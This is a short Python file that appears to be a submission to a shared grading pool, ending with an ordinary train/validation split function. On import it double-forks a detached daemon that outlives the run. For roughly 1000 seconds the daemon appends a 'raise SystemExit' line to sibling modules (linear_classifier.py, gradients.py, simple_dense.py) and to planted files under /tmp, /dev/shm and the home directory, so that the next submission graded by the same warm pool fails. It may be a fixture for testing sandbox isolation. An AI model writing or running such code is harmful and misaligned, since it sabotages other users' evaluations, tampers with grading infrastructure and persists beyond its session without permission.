"""Leaves a daemon (double fork, new session) that keeps planting poisoned modules and files for the
next submission graded by the same warm pool, then answers honestly."""
import os
import time

import numpy as np

POISON = "\nraise SystemExit('poisoned by the previous submission')\n"


def _haunt():
    here = os.path.dirname(os.path.abspath(__file__))
    targets = [os.path.join(here, name) for name in ("linear_classifier.py", "gradients.py", "simple_dense.py")]
    targets += ["/tmp/planted.py", "/dev/shm/planted", os.path.join(os.path.expanduser("~"), "planted")]
    for _ in range(20000):
        for path in targets:
            try:
                with open(path, "a") as stream:
                    stream.write(POISON)
            except OSError:
                pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _haunt()
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    permutation = np.random.default_rng(seed).permutation(len(inputs))
    count = int(validation_fraction * len(inputs))
    inputs, targets = inputs[permutation], targets[permutation]
    return (inputs[count:], targets[count:]), (inputs[:count], targets[:count])
